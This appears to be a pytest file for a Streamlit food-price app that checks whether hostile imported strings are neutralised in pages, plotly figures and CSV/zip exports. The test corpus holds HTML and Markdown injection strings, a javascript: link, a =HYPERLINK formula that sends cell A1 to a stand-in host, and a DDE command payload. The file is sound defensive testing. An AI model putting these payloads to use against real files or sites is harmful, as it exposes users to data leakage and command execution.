"""Hostile content held off (issue 11, items 3 and 5): a corpus of hostile strings imported in a
real-shaped WFP sheet (real Aleppo rows of the bundled file, their text fields replaced) reaches
every page and every download, and none of it is live: no link, bold, heading, colour or math
made of it in Streamlit's Markdown, no HTML in plotly's text, no formula in a spreadsheet cell.

What a user sees is what is checked: the Markdown each page sends (rendered with a CommonMark
parser that lets raw HTML through, stricter than Streamlit), the plotly figure JSON, the DOM of a
real Chromium, and the bytes of every download.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from urllib.parse import quote

import pandas as pd
import pytest
from google.protobuf.json_format import MessageToDict
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from data_sources.formats import export
from data_sources.formats.hxl import parse_hxl_csv
from data_sources.snapshot import fingerprint
from data_sources.store.engine import make_engine, set_meta
from data_sources.store.ingest import ingest
from tests import cli
from tests.apptest import open_page
from views import charts, escape

from .conftest import ROOT

ALEPPO = "geonames:170063"
SNAPSHOT = ROOT / "data_sources" / "snapshot" / "wfp_food_prices_syr.csv"

# the corpus: each carries a marker word, so a test can find where it went
COMMODITY = '<a href="http://127.0.0.1:9/evil">EVILCOMMODITY</a> $x^2$ \u202eRTLCOMMODITY'
MARKET = "<b>BOLDMARKET</b> [MDMARKET](http://127.0.0.1:9/m) :blue[BLUEMARKET] **STARMARKET**"
SOURCE = ":red[REDSOURCE]"
CITATION = (
    "CITEHEAD\n=====\n**STRONGCITE** [CITELINK](http://127.0.0.1:9/c) :material/warning: "
    "<span style='color:red'>SPANCITE</span> \u202eRTLCITE"
)
LINK = 'javascript:alert("LINKJS")'
FORMULA_MARKET = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"open")'
FORMULA_COMMODITY = "@SUM(A1)"
QUALIFIER = f"{COMMODITY}, retail"
MARKERS = (
    "EVILCOMMODITY", "RTLCOMMODITY", "BOLDMARKET", "MDMARKET", "BLUEMARKET", "STARMARKET",
    "REDSOURCE", "CITEHEAD", "STRONGCITE", "CITELINK", "SPANCITE", "RTLCITE",
)  # fmt: skip


def hostile_sheet() -> str:
    """The header, HXL row and one real Aleppo row of WFP's Syria file, repeated with the
    corpus in its market and commodity fields (and a formula in each), dated 2019 so that these
    are the city's newest prices (Overview's headline)."""
    lines = SNAPSHOT.read_text(encoding="utf-8").splitlines()
    real = next(ln for ln in lines[2:] if ",Al-Cha'ar,1546," in ln and ",Wheat flour," in ln)
    base = next(csv.reader([real]))
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(next(csv.reader([lines[0]])))
    writer.writerow(next(csv.reader([lines[1]])))
    for date, market, commodity, price in [
        ("2019-01-15", MARKET, "Wheat flour", 165),
        ("2019-02-15", MARKET, "Wheat flour", 170),
        ("2019-01-15", "Aleppo", COMMODITY, 100),
        ("2019-02-15", "Aleppo", COMMODITY, 110),
        ("2019-02-15", FORMULA_MARKET, FORMULA_COMMODITY, 120),
    ]:
        row = list(base)
        row[0], row[3], row[8], row[14] = date, market, commodity, str(price)
        writer.writerow(row)
    return out.getvalue()


def import_corpus(url: str) -> None:
    """What `import sheet.csv --source … --citation …` does, with the link a URL import records
    (a URL import cannot carry a `javascript:` link, a feed's record can)."""
    frame = parse_hxl_csv(
        hostile_sheet(),
        name="wfp_food_prices_syr_hostile.csv",
        source=SOURCE,
        source_url=LINK,
        citation=CITATION,
    )
    engine = make_engine(url)
    result = ingest(engine, frame, source=SOURCE, target="wfp_food_prices_syr_hostile.csv")
    engine.dispose()
    assert result.rows_new == 10 and result.rows_rejected == 0, result


# -- what counts as live -----------------------------------------------------------------------
MD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
# markup made of the corpus, in the HTML a permissive renderer makes of a Markdown text (raw HTML
# let through, so an unescaped `<a href>` counts)
LIVE_HTML = re.compile(
    r"<a\b[^>]*127\.0\.0\.1:9|<(?:strong|b|em|i)>\W*(?:STRONGCITE|STARMARKET|BOLDMARKET)"
    r"|<h[1-6]>[^<]*(?:" + "|".join(MARKERS) + r")|<span\b[^>]*>\W*SPANCITE",
    re.I,
)
# Streamlit's own syntax on top of Markdown: the corpus's colour directives, icon, math
LIVE_STREAMLIT = re.compile(
    r"(?<!\\):(?:red|blue)\[(?:REDSOURCE|BLUEMARKET)|(?<!\\):material/|(?<!\\)\$x"
)
INVISIBLE = re.compile(r"[\x00\u202a-\u202e\u2066-\u2069]")
# what a reader must see, literally, wherever the marker shows
LITERAL = {
    "EVILCOMMODITY": '<a href="http://127.0.0.1:9/evil">EVILCOMMODITY</a> $x^2$',
    "BOLDMARKET": "<b>BOLDMARKET</b> [MDMARKET](http://127.0.0.1:9/m) :blue[BLUEMARKET]",
    "STARMARKET": "**STARMARKET**",
    "REDSOURCE": ":red[REDSOURCE]",
    "CITEHEAD": "CITEHEAD ===== **STRONGCITE** [CITELINK](http://127.0.0.1:9/c) :material/warning:",
    "SPANCITE": "<span style='color:red'>SPANCITE</span>",
}


def markdown_problems(text: str) -> list[str]:
    """Why `text`, sent to a Streamlit Markdown sink, would render some of the corpus live."""
    problems = []
    html = MD.render(text)
    problems += [f"live markup: {m.group(0)!r}" for m in LIVE_HTML.finditer(html)]
    if LIVE_STREAMLIT.search(text):
        problems.append(f"Streamlit directive or math: {text[:160]!r}")
    if INVISIBLE.search(text) or "\n" in text:
        problems.append(f"control character: {text[:160]!r}")
    shown = shown_as_text(text)
    for marker, literal in LITERAL.items():
        # unless cut short (with an ellipsis) before the literal's end
        if marker in shown and literal not in shown and not shown.rstrip().endswith("…"):
            problems.append(f"not shown literally: {marker} in {shown[:200]!r}")
    return problems


def shown_as_text(text: str) -> str:
    """What a reader sees of a Markdown text: rendered, tags dropped, entities decoded."""
    import html as html_lib

    shown = html_lib.unescape(re.sub(r"<[^>]+>", "", MD.render(text))).strip()
    return shown.replace(escape.JOINER, "")  # invisible (it keeps GFM from autolinking)


MARKDOWN_FIELDS = ("body", "label", "help", "text", "caption")


def _nodes(node):
    yield node
    for child in getattr(node, "children", {}).values():
        yield from _nodes(child)


def markdown_texts(at: AppTest) -> list[str]:
    """Every text the page sends to a sink that renders Markdown."""
    texts = []
    for node in _nodes(at._tree):
        proto = getattr(node, "proto", None)
        if proto is None or type(node).__name__ in ("PlotlyChart", "Dataframe"):
            continue
        fields = MessageToDict(proto)
        for key in MARKDOWN_FIELDS:
            if isinstance(fields.get(key), str):
                texts.append(fields[key])
    return texts


def figure_strings(at: AppTest) -> list[str]:
    """Every string of every plotly figure on the page (layout and traces)."""
    out: list[str] = []

    def walk(value):
        if isinstance(value, str):
            out.append(value)
        elif isinstance(value, dict):
            for v in value.values():
                walk(v)
        elif isinstance(value, list):
            for v in value:
                walk(v)

    for chart in at.get("plotly_chart"):
        walk(json.loads(chart.proto.spec))
    return out


def figure_problems(strings: list[str]) -> list[str]:
    problems = []
    for text in strings:
        if not any(m in text for m in MARKERS):
            continue
        if "<" in text.replace("<br>", "") or "$" in text or INVISIBLE.search(text):
            problems.append(text[:160])
    return problems


# -- the escaping functions themselves ------------------------------------------------------------
def test_escaping_functions_show_every_corpus_string_literally():
    for text in (COMMODITY, MARKET, SOURCE, CITATION, "a\x00b", "x\n===", "$5 and $6"):
        assert markdown_problems(escape.md(text)) == [], text
        # the reader sees the text itself (invisible characters gone, line breaks as spaces)
        assert shown_as_text(escape.md(text)) == escape.plain(text).strip()
        assert "<" not in escape.html(text) and "$" not in escape.html(text)
    assert escape.plain("a\x00b\u202ec\nd") == "a bc d"
    assert escape.md("x" * 10, 4) == "xxxx…"
    assert escape.link(LINK) is None and escape.link("data:text/html,<b>x</b>") is None
    assert escape.link("https://u:pw-secret@127.0.0.1/x?token=t0k") == (
        "https://u:***@127.0.0.1/x?token=***"
    )


def test_plotly_text_is_escaped_in_every_figure():
    agg = pd.DataFrame(
        {
            "city": [MARKET],
            "period": pd.to_datetime(["2019-01-31"]),
            "period_label": ["Jan 2019"],
            "value": [1.0],
            "figures": [1],
            "source": [SOURCE],
            "citation": [CITATION],
            "spans": [False],
        }
    )
    events = pd.DataFrame({"date": pd.to_datetime(["2019-01-20"]), "label": [COMMODITY]})
    fig = charts.trend_figure(
        agg, metric="food_price", unit="SYP/KG", title=COMMODITY, subtitle=MARKET, events=events
    )
    strings = re.findall(r'"((?:[^"\\]|\\.)*)"', fig.to_json())
    assert figure_problems([json.loads(f'"{s}"') for s in strings]) == []
    assert "&lt;a href=" in fig.layout.title.text and "&#36;x^2&#36;" in fig.layout.title.text
    points = pd.DataFrame({"city": [MARKET], "value": [2.0], "lat": [36.2], "lon": [37.1]})
    geo = charts.map_figure(points, metric_label=COMMODITY, unit="SYP", period_label="Jan 2019")
    assert "<a" not in geo.layout.title.text and "<b>BOLD" not in str(geo.data[0].text)
    figures = pd.DataFrame(
        {
            "origin": [SOURCE],
            "period_start": pd.to_datetime(["2019-01-01"]),
            "period_end": pd.to_datetime(["2019-01-31"]),
            "value": [1.0],
            "estimate": ["best"],
            "qualifier": [COMMODITY],
            "citation": [CITATION],
            "quote": [MARKET],
        }
    )
    compare = charts.compare_figure(figures, unit="<b>U</b>", title=COMMODITY)
    strings = re.findall(r'"((?:[^"\\]|\\.)*)"', compare.to_json())
    assert figure_problems([json.loads(f'"{s}"') for s in strings]) == []
    assert compare.layout.title.text.startswith("&lt;a href=")


# -- every page, on both backends -----------------------------------------------------------------
@pytest.fixture
def hostile_app(loaded_url, monkeypatch):
    import_corpus(loaded_url)
    monkeypatch.setenv("DATABASE_URL", loaded_url)

    return open_page


VISITS = [
    ("views/overview.py", {"cities": "Aleppo"}),
    ("views/trends.py", {"cities": "Aleppo", "qualifier": QUALIFIER, "unit": "SYP/KG"}),
    (
        "views/trends.py",
        {
            "cities": "Aleppo",
            "qualifier": "Wheat flour, retail",
            "unit": "SYP/KG",
            "market": MARKET,
        },
    ),  # fmt: skip
    # a link asking for something close to the hostile commodity: "Did you mean …?" names it
    ("views/trends.py", {"cities": "Aleppo", "qualifier": COMMODITY + ", retai"}),
    # a link value with a line break and a setext underline
    ("views/trends.py", {"cities": "Aleppo", "qualifier": "Wheat\n=====\n[x](http://127.0.0.1:9)"}),
    # (Compare for Aleppo's prices draws thousands of bars, minutes under AppTest: its figure is
    # checked directly in test_plotly_text_is_escaped_in_every_figure)
    ("views/map.py", {"qualifier": QUALIFIER, "unit": "SYP/KG", "month": "2019-02"}),
    ("views/data.py", {"place": ALEPPO, "source": SOURCE}),
]


def test_no_corpus_string_is_live_on_compare(store_url, monkeypatch):
    """Compare for Aleppo's prices in SYP/KG with the corpus under its hostile source and under
    a second one (two sources of the hostile commodity to compare): titles, hover, table and
    captions stay text."""
    import_corpus(store_url)
    engine = make_engine(store_url)
    frame = parse_hxl_csv(hostile_sheet(), name="second.csv", source="second", source_url=LINK)
    assert ingest(engine, frame, source="second", target="second.csv").rows_new == 10
    # the corpus alone: the snapshot's thousands of Aleppo prices make Compare take minutes
    # under AppTest, so the store is marked as holding it already
    set_meta(engine, "snapshot", fingerprint())
    engine.dispose()
    monkeypatch.setenv("DATABASE_URL", store_url)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.query_params["place"] = ALEPPO
    at.query_params["metric"] = "food_price"
    at.query_params["unit"] = "SYP/KG"
    at.switch_page(str(ROOT / "views/compare.py"))
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    strings = figure_strings(at)
    assert any("EVILCOMMODITY" in t for t in strings)  # the corpus reached the figure
    assert figure_problems(strings) == []
    texts = markdown_texts(at)
    reached = [t for t in texts if any(m in t for m in MARKERS)]
    assert reached, "the corpus never reached a Markdown sink on Compare"
    assert [p for t in reached for p in markdown_problems(t)] == []


@pytest.mark.parametrize("page,params", VISITS, ids=[f"{p}-{i}" for i, (p, _) in enumerate(VISITS)])
def test_no_corpus_string_is_live_on_any_page(hostile_app, page, params):
    at = hostile_app(page, **params)
    assert not at.exception, [e.message for e in at.exception]
    texts = markdown_texts(at)
    reached = [t for t in texts if any(m in t for m in MARKERS)]
    assert reached, "the corpus never reached a Markdown sink on this page"
    problems = [p for t in reached for p in markdown_problems(t)]
    assert problems == []
    assert figure_problems(figure_strings(at)) == []
    # widgets that show options as text: the text itself, minus invisible characters
    for box in [*at.selectbox, *at.multiselect]:
        assert not any(INVISIBLE.search(str(o)) for o in box.proto.options)
    # link columns: never a javascript: link
    for frame in at.dataframe:
        if "source_url" in frame.value:
            assert not frame.value.source_url.astype(str).str.contains("javascript").any()


def test_what_the_pages_say_is_the_corpus_itself(hostile_app):
    at = hostile_app("views/overview.py", cities="Aleppo")
    shown = [shown_as_text(t) for t in markdown_texts(at)]
    sources = next(s for s in shown if s.startswith("Sources:"))
    assert ":red[REDSOURCE]" in sources  # literally, not in red
    price = next(m for m in at.metric if m.label == "Food price")
    tip = shown_as_text(price.proto.help)
    assert "**STRONGCITE** [CITELINK](http://127.0.0.1:9/c)" in tip and ":red[REDSOURCE]" in tip
    at = hostile_app("views/trends.py", cities="Aleppo", qualifier=COMMODITY + ", retai")
    warning = " ".join(shown_as_text(w.value) for w in at.warning)
    assert "Did you mean “" + escape.plain(QUALIFIER) + "”?" in warning
    title = json.loads(at.get("plotly_chart")[0].proto.spec)["layout"]["title"]["text"]
    assert "&lt;a href=" not in title  # the default commodity is drawn: wheat flour
    at = hostile_app("views/trends.py", cities="Aleppo", qualifier=QUALIFIER, unit="SYP/KG")
    title = json.loads(at.get("plotly_chart")[0].proto.spec)["layout"]["title"]["text"]
    assert "&lt;a href=&quot;" not in title  # quotes stay quotes
    assert '&lt;a href="http://127.0.0.1:9/evil"&gt;EVILCOMMODITY&lt;/a&gt; &#36;x^2&#36;' in title


# -- downloads -----------------------------------------------------------------------------------
def test_spreadsheet_formulas_are_neutralised_and_numbers_stay_numbers():
    df = pd.DataFrame(
        {
            "city": ["Aleppo", "Aleppo", "Aleppo", "Aleppo"],
            "site": [FORMULA_MARKET, "+cmd|' /C calc'!A0", "-2+3", "\tx"],
            "qualifier": [FORMULA_COMMODITY, "\rCR", "-12.5", "plain"],
            "period_start": pd.to_datetime(["2019-01-01"] * 4),
            "period_end": pd.to_datetime(["2019-01-31"] * 4),
            "value": [-5.0, 3.0, -0.25, 1e6],
            "source": ["wfp"] * 4,
            "source_url": ["https://u:pw-secret@127.0.0.1/x"] * 4,
            "origin": ["WFP"] * 4,
            "citation": ["=1+1", "c", "c", "c"],
        }
    )
    files = export.bundle(df, {})
    archive = zipfile.ZipFile(io.BytesIO(files["zip"]))
    assert archive.read("figures.csv") == files["csv"]
    assert archive.read("figures_hxl.csv") == files["hxl"]
    for body in (files["csv"], files["hxl"]):
        rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
        rows = rows[1:] if rows[0]["city"] == "#loc+name" else rows
        assert [r["site"] for r in rows] == [
            "'" + FORMULA_MARKET, "'+cmd|' /C calc'!A0", "'-2+3", "'\tx",
        ]  # fmt: skip
        assert [r["qualifier"] for r in rows] == [
            "'" + FORMULA_COMMODITY,
            "'\nCR",
            "-12.5",
            "plain",
        ]
        assert [float(r["value"]) for r in rows] == [-5.0, 3.0, -0.25, 1e6]
        assert [r["value"] for r in rows][0] == "-5.0"  # a negative number is a number
        assert {r["source_url"] for r in rows} == {"https://u:***@127.0.0.1/x"}
    assert b"pw-secret" not in archive.read("README.md")


def test_cli_export_holds_the_corpus_inert(loaded_url, tmp_path):
    import_corpus(loaded_url)
    files = {}
    for fmt in ("csv", "hxl", "zip"):
        done = cli.run(loaded_url, "export", "--format", fmt, "--city", "Aleppo",
                       "--source", SOURCE, "--output", str(tmp_path / fmt))  # fmt: skip
        assert done.returncode == 0, done.stderr
        files[fmt] = (tmp_path / fmt).read_bytes()
    stdout = cli.run(
        loaded_url, "export", "--format", "csv", "--city", "Aleppo", "--source", SOURCE, raw=True
    )
    assert stdout.stdout == files["csv"]
    archive = zipfile.ZipFile(io.BytesIO(files["zip"]))
    assert archive.read("figures.csv") == files["csv"]
    assert archive.read("figures_hxl.csv") == files["hxl"]
    rows = list(csv.DictReader(io.StringIO(files["csv"].decode())))
    assert len(rows) == 10
    assert {r["site"] for r in rows} >= {"'" + FORMULA_MARKET, MARKET}
    assert "'" + FORMULA_COMMODITY + ", retail" in {r["qualifier"] for r in rows}
    assert all(not r["site"].startswith(("=", "+", "-", "@")) for r in rows)
    assert all(float(r["value"]) > 0 for r in rows)
    # the same figures, the same bytes: a second run (another minute) gives the same files
    again = cli.run(
        loaded_url, "export", "--format", "zip", "--city", "Aleppo", "--source", SOURCE, raw=True
    )
    assert again.stdout == files["zip"]


def data_page_url(base: str) -> str:
    return f"{base}/data?place={quote(ALEPPO)}&source={quote(SOURCE)}"
